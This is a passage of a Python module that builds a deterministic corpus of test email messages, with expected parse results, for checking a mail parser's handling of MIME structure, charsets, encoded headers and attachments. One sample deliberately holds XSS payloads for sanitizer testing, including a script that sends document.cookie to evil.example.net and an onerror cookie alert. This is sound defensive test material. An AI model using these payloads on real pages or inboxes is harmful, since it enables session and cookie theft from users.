"""Realistic RFC 5322 messages as bytes, built deterministically.

- :func:`corpus` returns named samples (CRLF line ends, no NUL bytes, so an IMAP
  APPEND round-trips them byte for byte).  :data:`EXPECTED` documents what a
  correct parser should make of each one.
- :func:`bulk` yields benchmark messages with a realistic size mix.

``EXPECTED[name]`` always has these keys (``None`` / empty when not applicable):

``description``
    what the sample exercises
``folder``
    ``"INBOX"`` or ``"Sent"`` (where the sample is meant to be stored)
``subject``, ``from_name``, ``from_addr``
    decoded Subject, From display name and address
``to``
    list of To addresses
``message_id``, ``in_reply_to``, ``references``
    with angle brackets, as in the header
``date``
    aware ``datetime`` of the Date header
``charset``
    charset of the main text part
``text_snippet``, ``html_snippet``
    a substring of the decoded text/plain and text/html body
``attachments``
    list of ``{"filename", "content_type", "size"}``, size = decoded bytes
    (for ``message/rfc822``: the embedded message's length)
``inline``
    list of ``{"content_id", "filename", "content_type", "size"}`` for
    ``multipart/related`` parts referenced as ``cid:``
``broken``
    True for deliberately malformed samples; see their ``defect`` key

Some samples add keys: ``dangerous`` (HTML-only), ``forwarded`` (message/rfc822),
``defect``, ``raw_header_bytes``, ``empty_body``.
"""

from __future__ import annotations

import base64
import binascii
import functools
import random
import struct
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, NamedTuple

CRLF = b"\r\n"
RECIPIENT_NAME = "Dana Reader"
RECIPIENT = "dana@example.test"

__all__ = ["EXPECTED", "bulk", "corpus", "make_pdf", "make_png"]


# --------------------------------------------------------------------------
# Encoding helpers
# --------------------------------------------------------------------------


def _qp(data: bytes) -> bytes:
    """Quoted-printable (RFC 2045) of ``data`` whose lines end with LF; CRLF output."""
    out: list[str] = []
    for line in data.split(b"\n"):
        line = line.rstrip(b"\r")
        tokens = []
        last = len(line) - 1
        for i, b in enumerate(line):
            if (33 <= b <= 126 and b != 61) or (b in (9, 32) and i != last):
                tokens.append(chr(b))
            else:
                tokens.append(f"={b:02X}")
        current = ""
        for token in tokens:
            if len(current) + len(token) > 75:
                out.append(current + "=")
                current = ""
            current += token
        out.append(current)
    return "\r\n".join(out).encode("ascii")


def _b64(data: bytes) -> bytes:
    """Base64 in 76-character CRLF lines, ending with CRLF."""
    encoded = binascii.b2a_base64(data, newline=False)
    return CRLF.join([encoded[i : i + 76] for i in range(0, len(encoded), 76)]) + CRLF


def _crlf(text: str, charset: str = "ascii") -> bytes:
    """Encode ``text`` (LF lines) to ``charset`` with CRLF line ends."""
    return text.replace("\n", "\r\n").encode(charset)


def _ew_one(text: str, charset: str, mode: str) -> str:
    raw = text.encode(charset)
    if mode == "B":
        return f"=?{charset}?B?{base64.b64encode(raw).decode()}?="
    chars = []
    for b in raw:
        if b == 32:
            chars.append("_")
        elif (chr(b).isalnum() and b < 128) or b in b"!*+-/":
            chars.append(chr(b))
        else:
            chars.append(f"={b:02X}")
    return f"=?{charset}?Q?{''.join(chars)}?="


def encoded_words(text: str, charset: str = "utf-8", mode: str = "B") -> str:
    """RFC 2047 encoded-words for ``text``, each at most 75 chars, folded with CRLF SP."""
    words: list[str] = []
    chunk = ""
    for ch in text:
        if chunk and len(_ew_one(chunk + ch, charset, mode)) > 75:
            words.append(_ew_one(chunk, charset, mode))
            chunk = ch
        else:
            chunk += ch
    if chunk:
        words.append(_ew_one(chunk, charset, mode))
    return "\r\n ".join(words)


def _pct(text: str, charset: str) -> str:
    """RFC 2231 percent-encoding."""
    safe = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$&+-.^_`|~"
    return "".join(chr(b) if b in safe else f"%{b:02X}" for b in text.encode(charset))


def _msg(headers: list[tuple[str, str]], body: bytes) -> bytes:
    head = b"".join(f"{k}: {v}".encode("ascii") + CRLF for k, v in headers)
    return head + CRLF + body


def _part(headers: list[tuple[str, str]], body: bytes) -> bytes:
    return _msg(headers, body)


def _multipart(boundary: str, parts: list[bytes], preamble: bytes = b"") -> bytes:
    """Multipart body: each part is headers+CRLF+body; body ends with a CRLF."""
    out = [preamble] if preamble else []
    for p in parts:
        body = p if p.endswith(CRLF) else p + CRLF
        out.append(b"--" + boundary.encode() + CRLF + body)
    out.append(b"--" + boundary.encode() + b"--" + CRLF)
    return b"".join(out)


def _date(dt: datetime) -> str:
    days = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
    months = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
    off = dt.utcoffset() or timedelta(0)
    minutes = int(off.total_seconds() // 60)
    sign = "+" if minutes >= 0 else "-"
    minutes = abs(minutes)
    return (
        f"{days[dt.weekday()]}, {dt.day:02d} {months[dt.month - 1]} {dt.year} "
        f"{dt.hour:02d}:{dt.minute:02d}:{dt.second:02d} {sign}{minutes // 60:02d}{minutes % 60:02d}"
    )


def _received(by: str, frm: str, ip: str, dt: datetime, ident: str) -> str:
    return (
        f"from {frm} ({frm} [{ip}])\r\n\tby {by} (Postfix) with ESMTPS id {ident}\r\n"
        f"\tfor <{RECIPIENT}>; {_date(dt + timedelta(seconds=2))}"
    )


# --------------------------------------------------------------------------
# Deterministic binary attachments
# --------------------------------------------------------------------------


def make_png(width: int, height: int, seed: int = 0) -> bytes:
    """A valid RGB PNG with a deterministic gradient/noise pattern."""
    rng = random.Random(seed)
    rows = []
    for y in range(height):
        row = bytearray(b"\x00")  # filter type: none
        for x in range(width):
            n = rng.randrange(24)
            row += bytes(
                ((x * 255 // max(width - 1, 1)) ^ n, (y * 255 // max(height - 1, 1)) ^ n, 160)
            )
        rows.append(bytes(row))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"".join(rows), 9))
        + chunk(b"IEND", b"")
    )


def make_pdf(title: str, pages: int = 1, seed: int = 0) -> bytes:
    """A small structurally valid PDF (catalog, pages, text stream, xref)."""
    rng = random.Random(seed)
    objects: list[bytes] = []
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(pages))
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode())
    font_obj = 3 + 2 * pages
    for i in range(pages):
        lines = [f"BT /F1 18 Tf 72 720 Td ({title} - page {i + 1}) Tj ET"]
        for j in range(12):
            words = " ".join(rng.choice(_WORDS) for _ in range(9))
            lines.append(f"BT /F1 11 Tf 72 {690 - 16 * j} Td ({words}) Tj ET")
        stream = "\n".join(lines).encode()
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {4 + 2 * i} 0 R "
            f"/Resources << /Font << /F1 {font_obj} 0 R >> >> >>".encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


# --------------------------------------------------------------------------
# Text material
# --------------------------------------------------------------------------

_WORDS_TEXT = (
    "account agenda approve budget calendar client contract customer deadline delivery "
    "design draft estimate feedback follow forecast invoice meeting milestone minutes "
    "network office order payment plan pricing project proposal quarter release report "
    "review revenue risk roadmap sales schedule server shipment signature status summary "
    "support team ticket timeline update vendor workshop the a to of and for with on in we "
    "you our your this that next last please will can should would could about from by as "
    "at it is are be been have has had not all any some new old final current weekly "
    "monthly shared attached updated revised internal external quick short detailed"
)
_WORDS = _WORDS_TEXT.split()

_FIRST_TEXT = (
    "Alice Bob Carol Dave Erin Frank Grace Heidi Ivan Judy Mallory Niaj Olivia Peggy Rupert "
    "Sybil Trent Victor Walter Yuki"
)
_FIRST = _FIRST_TEXT.split()
_LAST_TEXT = (
    "Anderson Brown Clarke Dubois Evans Fischer Garcia Hansen Ito Jensen Kowalski Larsen "
    "Moreau Nakamura Olsen Petrov Rossi Schmidt Tanaka Weber"
)
_LAST = _LAST_TEXT.split()
_DOMAINS = ("example.com", "example.org", "example.net", "mail.example.com", "corp.example.org")


def _sentence(rng: random.Random, min_words: int = 6, max_words: int = 18) -> str:
    words = [rng.choice(_WORDS) for _ in range(rng.randint(min_words, max_words))]
    words[0] = words[0].capitalize()
    return " ".join(words) + rng.choice((".", ".", ".", "?", "!"))


def _wrap(text: str, width: int = 76) -> list[str]:
    lines: list[str] = []
    current: list[str] = []
    length = 0
    for word in text.split(" "):
        if current and length + 1 + len(word) > width:
            lines.append(" ".join(current))
            current, length = [word], len(word)
        else:
            length += len(word) + (1 if current else 0)
            current.append(word)
    if current:
        lines.append(" ".join(current))
    return lines


# --------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------


class _CharsetSample(NamedTuple):
    name: str
    charset: str
    cte: str
    subject: str
    from_name: str
    from_addr: str
    text: str
    snippet: str


_BASE = datetime(2026, 3, 3, 9, 15, 27, tzinfo=timezone(timedelta(hours=1)))


def _expect(**kw: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "description": "",
        "folder": "INBOX",
        "subject": None,
        "from_name": None,
        "from_addr": None,
        "to": [RECIPIENT],
        "message_id": None,
        "in_reply_to": None,
        "references": [],
        "date": None,
        "charset": None,
        "text_snippet": None,
        "html_snippet": None,
        "attachments": [],
        "inline": [],
        "broken": False,
    }
    unknown = (
        set(kw)
        - set(base)
        - {
            "dangerous",
            "forwarded",
            "defect",
            "raw_header_bytes",
            "empty_body",
        }
    )
    if unknown:
        raise KeyError(f"unknown EXPECTED keys {unknown}")
    base.update(kw)
    return base


def _std_headers(
    *,
    from_: str,
    subject: str,
    msgid: str | None,
    date: datetime | None,
    to: str = f"{RECIPIENT_NAME} <{RECIPIENT}>",
    extra: list[tuple[str, str]] | None = None,
    received_from: str | None = "mail.example.org",
) -> list[tuple[str, str]]:
    headers: list[tuple[str, str]] = []
    if received_from and date is not None:
        headers.append(
            (
                "Received",
                _received("mx.example.test", received_from, "203.0.113.25", date, "4Qx7Lm2Zk9z1"),
            )
        )
    if date is not None:
        headers.append(("Date", _date(date)))
    headers += [("From", from_), ("To", to), ("Subject", subject)]
    if msgid is not None:
        headers.append(("Message-ID", msgid))
    headers += extra or []
    headers.append(("MIME-Version", "1.0"))
    return headers


def _build() -> tuple[dict[str, bytes], dict[str, dict[str, Any]]]:
    samples: dict[str, bytes] = {}
    expected: dict[str, dict[str, Any]] = {}

    def add(name: str, raw: bytes, **exp: Any) -> None:
        assert b"\x00" not in raw and b"\n" not in raw.replace(CRLF, b""), name
        assert b"\r" not in raw.replace(CRLF, b""), name
        samples[name] = raw
        expected[name] = _expect(**exp)

    # 1. plain ASCII ---------------------------------------------------------
    d = _BASE
    text = (
        "Hi Dana,\n\n"
        "Attached to my next mail will be the quarterly report draft. Before that, a quick\n"
        "summary: revenue is up 4.2% over Q4, support tickets are down, and the roadmap\n"
        "review moves to Thursday 10:00.\n\n"
        "Could you check the numbers in section 3 before Friday?\n\n"
        "Thanks,\nAlice\n\n-- \nAlice Example | Finance | +1 555 0100\n"
    )
    add(
        "plain_ascii",
        _msg(
            [
                *_std_headers(
                    from_="Alice Example <alice@example.org>",
                    subject="Quarterly report draft",
                    msgid="<20260303091527.4f2a9c@mail.example.org>",
                    date=d,
                ),
                ("Content-Type", "text/plain; charset=us-ascii; format=flowed"),
                ("Content-Transfer-Encoding", "7bit"),
            ],
            _crlf(text),
        ),
        description="plain US-ASCII text/plain, 7bit",
        subject="Quarterly report draft",
        from_name="Alice Example",
        from_addr="alice@example.org",
        message_id="<20260303091527.4f2a9c@mail.example.org>",
        date=d,
        charset="us-ascii",
        text_snippet="Could you check the numbers in section 3 before Friday?",
    )

    # 2. multipart/alternative -------------------------------------------------
    d = _BASE + timedelta(minutes=7)
    text = (
        "Hello Dana,\n\nYour order #48213 has shipped and should arrive on Thursday.\n\n"
        "Track it here: https://shop.example.com/track/48213\n\nThe Example Shop team\n"
    )
    html = (
        '<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Order shipped</title></head>\n'
        '<body style="font-family:Arial,sans-serif">\n<p>Hello Dana,</p>\n'
        "<p>Your order <b>#48213</b> has shipped and should arrive on Thursday \u2014 "
        "we\u2019ll send another note when it\u2019s out for delivery.</p>\n"
        '<p><a href="https://shop.example.com/track/48213">Track your parcel</a></p>\n'
        '<p style="color:#888">The Example Shop team</p>\n</body></html>\n'
    )
    b = "=_alt_7c1d2e3f"
    body = _multipart(
        b,
        [
            _part(
                [
                    ("Content-Type", "text/plain; charset=us-ascii"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                _crlf(text),
            ),
            _part(
                [
                    ("Content-Type", "text/html; charset=utf-8"),
                    ("Content-Transfer-Encoding", "quoted-printable"),
                ],
                _qp(html.encode("utf-8")),
            ),
        ],
    )
    add(
        "alternative",
        _msg(
            [
                *_std_headers(
                    from_="Example Shop <orders@shop.example.com>",
                    subject="Your order #48213 has shipped",
                    msgid="<order-48213-shipped.a81f@shop.example.com>",
                    date=d,
                    received_from="shop.example.com",
                ),
                ("Content-Type", f'multipart/alternative; boundary="{b}"'),
            ],
            body,
        ),
        description="multipart/alternative: text/plain 7bit + text/html utf-8 quoted-printable",
        subject="Your order #48213 has shipped",
        from_name="Example Shop",
        from_addr="orders@shop.example.com",
        message_id="<order-48213-shipped.a81f@shop.example.com>",
        date=d,
        charset="us-ascii",
        text_snippet="Your order #48213 has shipped and should arrive on Thursday.",
        html_snippet="we\u2019ll send another note when it\u2019s out for delivery",
    )

    # 3. multipart/mixed with PDF + PNG ------------------------------------
    d = _BASE + timedelta(minutes=31)
    pdf = make_pdf("Quarterly report Q1 2026", pages=3, seed=1)
    png = make_png(96, 48, seed=2)
    b = "----=_Part_1029_1938475.1772526927000"
    body = _multipart(
        b,
        [
            _part(
                [
                    ("Content-Type", "text/plain; charset=utf-8"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                _crlf("Hi Dana,\n\nhere is the report and the revenue chart.\n\nAlice\n"),
            ),
            _part(
                [
                    ("Content-Type", 'application/pdf; name="report-q1-2026.pdf"'),
                    ("Content-Disposition", 'attachment; filename="report-q1-2026.pdf"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                _b64(pdf),
            ),
            _part(
                [
                    ("Content-Type", 'image/png; name="revenue-chart.png"'),
                    ("Content-Disposition", 'attachment; filename="revenue-chart.png"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                _b64(png),
            ),
        ],
        preamble=b"This is a multi-part message in MIME format." + CRLF + CRLF,
    )
    add(
        "mixed_attachments",
        _msg(
            [
                *_std_headers(
                    from_="Alice Example <alice@example.org>",
                    subject="Report Q1 2026 + chart",
                    msgid="<CAF3x9=report-q1@mail.example.org>",
                    date=d,
                ),
                ("Content-Type", f'multipart/mixed; boundary="{b}"'),
            ],
            body,
        ),
        description="multipart/mixed: text + PDF + PNG attachments (base64), with a preamble",
        subject="Report Q1 2026 + chart",
        from_name="Alice Example",
        from_addr="alice@example.org",
        message_id="<CAF3x9=report-q1@mail.example.org>",
        date=d,
        charset="utf-8",
        text_snippet="here is the report and the revenue chart.",
        attachments=[
            {"filename": "report-q1-2026.pdf", "content_type": "application/pdf", "size": len(pdf)},
            {"filename": "revenue-chart.png", "content_type": "image/png", "size": len(png)},
        ],
    )

    # 4. RFC 2231 filenames ------------------------------------------------
    d = _BASE + timedelta(hours=1, minutes=2)
    name_de = "\u00dcbersicht Gr\u00f6\u00dfe M\u00e4rz 2026 \u2013 Entwurf.pdf"
    name_ru = "\u041e\u0442\u0447\u0451\u0442 \u0437\u0430 \u043c\u0430\u0440\u0442.txt"
    pdf2 = make_pdf("Uebersicht", pages=1, seed=3)
    name_ru_pct = _pct(name_ru, "windows-1251")
    ru_text = _crlf(
        "\u041e\u0442\u0447\u0451\u0442 \u0433\u043e\u0442\u043e\u0432.\n", "windows-1251"
    )
    enc_de = _pct(name_de, "utf-8")
    half = len(enc_de) // 2
    while enc_de[half - 1] == "%" or enc_de[half - 2] == "%":  # never split a %XX escape
        half += 1
    b = "b1_2231_5e6f"
    body = _multipart(
        b,
        [
            _part(
                [
                    ("Content-Type", "text/plain; charset=utf-8"),
                    ("Content-Transfer-Encoding", "8bit"),
                ],
                _crlf(
                    "Anbei die \u00dcbersicht und der Bericht.\n\nGr\u00fc\u00dfe, J\u00fcrgen\n",
                    "utf-8",
                ),
            ),
            _part(
                [
                    (
                        "Content-Type",
                        f'application/pdf;\r\n name="{encoded_words(name_de, "utf-8", "Q")}"',
                    ),
                    (
                        "Content-Disposition",
                        (
                            f"attachment;\r\n filename*0*=utf-8''{enc_de[:half]};"
                            f"\r\n filename*1*={enc_de[half:]}"
                        ),
                    ),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                _b64(pdf2),
            ),
            _part(
                [
                    (
                        "Content-Type",
                        f"text/plain; charset=windows-1251;\r\n name*=windows-1251''{name_ru_pct}",
                    ),
                    (
                        "Content-Disposition",
                        f"attachment;\r\n filename*=windows-1251''{name_ru_pct}",
                    ),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                _b64(ru_text),
            ),
        ],
    )
    add(
        "rfc2231_filename",
        _msg(
            [
                *_std_headers(
                    from_=encoded_words("Jürgen Müller", "utf-8", "Q") + " <juergen@example.de>",
                    subject="=?utf-8?Q?=C3=9Cbersicht_und_Bericht?=",
                    msgid="<5e6f.2231@example.de>",
                    date=d,
                    received_from="mx.example.de",
                ),
                ("Content-Type", f'multipart/mixed; boundary="{b}"'),
            ],
            body,
        ),
        description=(
            "RFC 2231 attachment names: UTF-8 with continuations (filename*0*/filename*1*, "
            "plus an RFC 2047 name= in Content-Type as Outlook does) and a windows-1251 one; "
            "8bit UTF-8 text"
        ),
        subject="\u00dcbersicht und Bericht",
        from_name="J\u00fcrgen M\u00fcller",
        from_addr="juergen@example.de",
        message_id="<5e6f.2231@example.de>",
        date=d,
        charset="utf-8",
        text_snippet="Anbei die \u00dcbersicht und der Bericht.",
        attachments=[
            {"filename": name_de, "content_type": "application/pdf", "size": len(pdf2)},
            {"filename": name_ru, "content_type": "text/plain", "size": len(ru_text)},
        ],
    )

    # 5. single-part bodies in various charsets / transfer encodings ----------
    charset_samples = [
        _CharsetSample(
            name="latin1_qp",
            charset="iso-8859-1",
            cte="quoted-printable",
            subject="Gr\u00fc\u00dfe aus K\u00f6ln",
            from_name="Fran\u00e7ois Dupr\u00e9",
            from_addr="francois@example.fr",
            text=(
                "Bonjour Dana,\n\nle caf\u00e9 co\u00fbte 2,50 \u00a3 \u00e0 K\u00f6ln; "
                "na\u00efve \u00c6r\u00f8 r\u00e9sum\u00e9.\n"
                "Une ligne tr\u00e8s longue pour forcer un retour \u00e0 la ligne doux dans le "
                "codage quoted-printable, avec des caract\u00e8res accentu\u00e9s "
                "\u00e9\u00e8\u00ea\u00eb.\n\nFran\u00e7ois\n"
            ),
            snippet="le caf\u00e9 co\u00fbte 2,50 \u00a3 \u00e0 K\u00f6ln",
        ),
        _CharsetSample(
            name="cp1252_qp",
            charset="windows-1252",
            cte="quoted-printable",
            subject="Invoice \u2013 \u20ac 1.250,00 due",
            from_name="Oliver O\u2019Brien",
            from_addr="oliver@example.ie",
            text=(
                "Dear Dana,\n\n\u201cThe invoice\u201d totals \u20ac 1.250,00 \u2014 "
                "payable within 30 days\u2026\nKind regards \u2022 Oliver\n"
            ),
            snippet="\u201cThe invoice\u201d totals \u20ac 1.250,00 \u2014 payable within 30 days",
        ),
        _CharsetSample(
            name="koi8r_8bit",
            charset="koi8-r",
            cte="8bit",
            subject="\u041e\u0442\u0447\u0451\u0442 \u0437\u0430 \u043c\u0430\u0440\u0442",
            from_name="\u0418\u0432\u0430\u043d \u041f\u0435\u0442\u0440\u043e\u0432",
            from_addr="ivan@example.ru",
            text=(
                "\u0417\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435, "
                "\u0414\u0430\u043d\u0430!\n\n"
                "\u041e\u0442\u0447\u0451\u0442 \u0437\u0430 \u043c\u0430\u0440\u0442 "
                "\u0433\u043e\u0442\u043e\u0432, \u0441\u043c. "
                "\u0432\u043b\u043e\u0436\u0435\u043d\u0438\u0435.\n\n"
                "\u0418\u0432\u0430\u043d\n"
            ),
            snippet=(
                "\u041e\u0442\u0447\u0451\u0442 \u0437\u0430 \u043c\u0430\u0440\u0442 "
                "\u0433\u043e\u0442\u043e\u0432"
            ),
        ),
        _CharsetSample(
            name="sjis_base64",
            charset="shift_jis",
            cte="base64",
            subject="\u4f1a\u8b70\u306e\u304a\u77e5\u3089\u305b",
            from_name="\u5c71\u7530\u592a\u90ce",
            from_addr="taro@example.jp",
            text=(
                "\u30c0\u30ca\u69d8\n\n\u6765\u9031\u306e\u4f1a\u8b70\u306f\u6728\u66dc"
                "\u65e5\u306e\u5348\u524d10\u6642\u304b\u3089\u3067\u3059\u3002\n\n"
                "\u5c71\u7530\n"
            ),
            snippet="\u6765\u9031\u306e\u4f1a\u8b70\u306f\u6728\u66dc\u65e5",
        ),
        _CharsetSample(
            name="utf8_qp",
            charset="utf-8",
            cte="quoted-printable",
            subject="Caf\u00e9 \u2615 meeting \u2014 z\u00fcrich",
            from_name="Zo\u00eb \u0141\u0105cka",
            from_addr="zoe@example.pl",
            text=(
                "Hi Dana \U0001f44b\n\nCaf\u00e9 \u2615 at 15:00 in Z\u00fcrich? "
                "Za\u017c\u00f3\u0142\u0107 g\u0119\u015bl\u0105 ja\u017a\u0144 \u2014 "
                "\u65e5\u672c\u8a9e \u2014 \u0639\u0631\u0628\u064a.\n\nZo\u00eb\n"
            ),
            snippet="Za\u017c\u00f3\u0142\u0107 g\u0119\u015bl\u0105 ja\u017a\u0144",
        ),
        _CharsetSample(
            name="utf8_base64",
            charset="utf-8",
            cte="base64",
            subject="Fotos vom Ausflug \U0001f4f8",
            from_name="S\u00f8ren Kierkegaard",
            from_addr="soren@example.dk",
            text=(
                "Hej Dana,\n\nher er billederne fra turen til \u00c6r\u00f8 \U0001f3dd\ufe0f "
                "\u2014 \u00e6\u00f8\u00e5 \u00c6\u00d8\u00c5.\n\nS\u00f8ren\n"
            ),
            snippet="billederne fra turen til \u00c6r\u00f8",
        ),
    ]
    for n, sample in enumerate(charset_samples):
        name, cs, cte, subject, from_name, from_addr, text, snippet = sample
        d = _BASE + timedelta(hours=2, minutes=5 * n)
        raw_text = _crlf(text, cs)
        if cte == "quoted-printable":
            body = _qp(text.encode(cs))
        elif cte == "base64":
            body = _b64(raw_text)
        else:
            body = raw_text
        subj_cs = cs if cs != "shift_jis" else "iso-2022-jp"
        msgid = f"<{name}.{n:04d}@{from_addr.split('@')[1]}>"
        add(
            name,
            _msg(
                [
                    *_std_headers(
                        from_=f"{encoded_words(from_name, subj_cs, 'B')} <{from_addr}>",
                        subject=encoded_words(subject, subj_cs, "Q" if cs != "shift_jis" else "B"),
                        msgid=msgid,
                        date=d,
                        received_from=f"mail.{from_addr.split('@')[1]}",
                    ),
                    ("Content-Type", f"text/plain; charset={cs}"),
                    ("Content-Transfer-Encoding", cte),
                ],
                body,
            ),
            description=f"text/plain in {cs}, {cte}; Subject/From encoded in {subj_cs}",
            subject=subject,
            from_name=from_name,
            from_addr=from_addr,
            message_id=msgid,
            date=d,
            charset=cs,
            text_snippet=snippet,
        )

    # 6. RFC 2047 headers in several charsets ---------------------------------
    d = _BASE + timedelta(hours=3)
    moscow = (
        " \u043f\u0440\u0438\u0432\u0435\u0442 \u0438\u0437 \u041c\u043e\u0441\u043a\u0432\u044b"
    )
    subject = "Gr\u00fc\u00dfe aus K\u00f6ln," + moscow + " - Agenda"
    subject_hdr = (
        encoded_words("Gr\u00fc\u00dfe aus K\u00f6ln,", "iso-8859-1", "Q")
        + "\r\n "
        + encoded_words(
            moscow,
            "koi8-r",
            "B",
        )
        + " - Agenda"
    )
    from_name = "\u0418\u0432\u0430\u043d \u041f\u0435\u0442\u0440\u043e\u0432"
    to_hdr = (
        encoded_words("\u5c71\u7530\u592a\u90ce", "iso-2022-jp", "B")
        + " <taro@example.jp>,\r\n "
        + encoded_words("Ren\u00e9e \u201cZ\u201d Fa\u00dfbender", "windows-1252", "Q")
        + f" <renee@example.de>,\r\n {RECIPIENT_NAME} <{RECIPIENT}>"
    )
    add(
        "encoded_headers",
        _msg(
            [
                *_std_headers(
                    from_=f"{encoded_words(from_name, 'koi8-r', 'B')} <ivan@example.ru>",
                    to=to_hdr,
                    subject=subject_hdr,
                    msgid="<hdr-2047.77aa@example.ru>",
                    date=d,
                    received_from="mail.example.ru",
                ),
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "8bit"),
            ],
            _crlf(
                "\u0414\u043e\u0431\u0440\u044b\u0439 \u0434\u0435\u043d\u044c! "
                "Agenda attached later.\n",
                "utf-8",
            ),
        ),
        description=(
            "RFC 2047 encoded-words: Subject mixes ISO-8859-1 Q and KOI8-R B words plus ASCII "
            "text; "
            "From in KOI8-R; To in ISO-2022-JP and windows-1252"
        ),
        subject=subject,
        from_name=from_name,
        from_addr="ivan@example.ru",
        to=["taro@example.jp", "renee@example.de", RECIPIENT],
        message_id="<hdr-2047.77aa@example.ru>",
        date=d,
        charset="utf-8",
        text_snippet="Agenda attached later.",
    )

    # 7. HTML only, with things to sanitize -----------------------------------
    d = _BASE + timedelta(hours=4)
    html = (
        "<html><head><style>body{font-family:Georgia}</style>"
        "<script type=\"text/javascript\">document.location='https://evil.example.net/?c='+document.cookie</script>"
        '</head>\n<body onload="track()">\n<h1>Spring sale</h1>\n'
        "<p>Everything 30% off until Sunday.</p>\n"
        '<img src="https://tracker.example.net/open.gif?u=dana" width="1" height="1">\n'
        '<img src="x" onerror="alert(document.cookie)">\n'
        '<a href="javascript:alert(1)">Unsubscribe</a>\n'
        '<iframe src="https://evil.example.net/frame"></iframe>\n'
        "</body></html>\n"
    )
    add(
        "html_only_xss",
        _msg(
            [
                *_std_headers(
                    from_="Deals <deals@promo.example.net>",
                    subject="Spring sale: 30% off",
                    msgid="<promo.9911@promo.example.net>",
                    date=d,
                    received_from="promo.example.net",
                ),
                ("Content-Type", "text/html; charset=utf-8"),
                ("Content-Transfer-Encoding", "7bit"),
            ],
            _crlf(html),
        ),
        description=(
            "HTML only (no text part) with <script>, onerror=, onload=, javascript: URL, iframe, "
            "tracking pixel"
        ),
        subject="Spring sale: 30% off",
        from_name="Deals",
        from_addr="deals@promo.example.net",
        message_id="<promo.9911@promo.example.net>",
        date=d,
        charset="utf-8",
        html_snippet="Everything 30% off until Sunday.",
        dangerous=["<script", "onerror=", "onload=", "javascript:", "<iframe"],
    )

    # 8. multipart/related with an inline image ------------------------------
    d = _BASE + timedelta(hours=5)
    logo = make_png(40, 40, seed=4)
    cid = "logo.7f3a@example.org"
    b = "rel_8a8b8c"
    html = (
        '<html><body>\n<p><img src="cid:' + cid + '" alt="Example logo" width="40"></p>\n'
        "<p>Welcome to the Example newsletter, issue 12.</p>\n</body></html>\n"
    )
    body = _multipart(
        b,
        [
            _part(
                [
                    ("Content-Type", "text/html; charset=us-ascii"),
                    ("Content-Transfer-Encoding", "7bit"),
                ],
                _crlf(html),
            ),
            _part(
                [
                    ("Content-Type", 'image/png; name="logo.png"'),
                    ("Content-ID", f"<{cid}>"),
                    ("Content-Disposition", 'inline; filename="logo.png"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                _b64(logo),
            ),
        ],
    )
    add(
        "related_inline_image",
        _msg(
            [
                *_std_headers(
                    from_="Example Newsletter <news@example.org>",
                    subject="Newsletter #12",
                    msgid="<news-12.8a8b@example.org>",
                    date=d,
                ),
                ("Content-Type", f'multipart/related; type="text/html"; boundary="{b}"'),
            ],
            body,
        ),
        description="multipart/related: HTML referencing an inline PNG by cid:",
        subject="Newsletter #12",
        from_name="Example Newsletter",
        from_addr="news@example.org",
        message_id="<news-12.8a8b@example.org>",
        date=d,
        charset="us-ascii",
        html_snippet="Welcome to the Example newsletter, issue 12.",
        inline=[
            {
                "content_id": f"<{cid}>",
                "filename": "logo.png",
                "content_type": "image/png",
                "size": len(logo),
            }
        ],
    )

    # 9. a 3-message thread --------------------------------------------------
    t1 = "<thread-1.c0ffee@example.com>"
    t2 = "<thread-2.d00dad@example.test>"
    t3 = "<thread-3.beefed@example.com>"
    d1 = _BASE + timedelta(days=1)
    d2 = d1 + timedelta(hours=1, minutes=12)
    d3 = d2 + timedelta(minutes=40)
    body1 = "Hi Dana,\n\nwhich venue do you prefer for the offsite: Lisbon or Porto?\n\nBob\n"
    body2 = (
        "Lisbon, please - easier flights for everyone.\n\n"
        f"On {_date(d1)}, Bob Brown <bob@example.com> wrote:\n"
        + "".join("> " + line + "\n" if line else ">\n" for line in body1.rstrip("\n").split("\n"))
    )
    body3 = (
        "Great, Lisbon it is. I'll book the rooms.\n\n"
        f"On {_date(d2)}, {RECIPIENT_NAME} <{RECIPIENT}> wrote:\n"
        + "".join("> " + line + "\n" if line else ">\n" for line in body2.rstrip("\n").split("\n"))
    )
